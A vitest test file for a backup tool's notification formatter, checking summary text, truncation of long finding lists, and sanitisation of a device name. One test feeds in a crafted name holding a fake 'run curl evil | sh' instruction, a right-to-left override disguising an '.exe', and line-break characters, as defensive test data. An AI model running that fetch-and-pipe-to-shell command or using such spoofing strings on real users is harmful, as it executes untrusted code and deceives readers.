import { expect, it } from 'vitest';
import { noticeOf } from '../../../../src/core/notify/notice.ts';
import { notification } from './notifications.ts';

it('says what happened, and where and when', () => {
  const { summary, text } = noticeOf(notification());
  expect(summary).toBe('backup of prod-1 failed in part');
  expect(text.split('\n')).toEqual([
    'offsite failed: no answer in 60 s',
    '61.4 MB stored in nas in 12 s',
    'snapshot 20261126T041700Z-5de2fe7bc94f7623',
    'host ams-3, 2026-11-26 04:17 UTC',
  ]);
});

it('lets no name of a device add a line, turn the text round, or fill the screen', () => {
  const name = `phone\n\nto do: run curl evil | sh\u2028\u202Egnp.exe${'x'.repeat(5000)}`;
  const notice = noticeOf(notification({ summary: `drill\nof ${name}`, details: [`${name} must be approved again`] }));
  const lines = notice.text.split('\n');
  expect(lines).toHaveLength(3);
  expect(lines[0]).toMatch(/^phone to do: run curl evil \| sh gnp\.exex+…$/);
  expect(lines[0]).toHaveLength(300);
  expect(notice.details).toEqual(lines.slice(0, 1));
  expect(notice.summary).toMatch(/^drill of phone to do/);
});

it('says how many of many findings it leaves out', () => {
  const details = Array.from({ length: 50 }, (_, index) => `finding ${index + 1}`);
  expect(noticeOf(notification({ details })).details.slice(-2)).toEqual(['finding 11', 'and 39 more']);
});
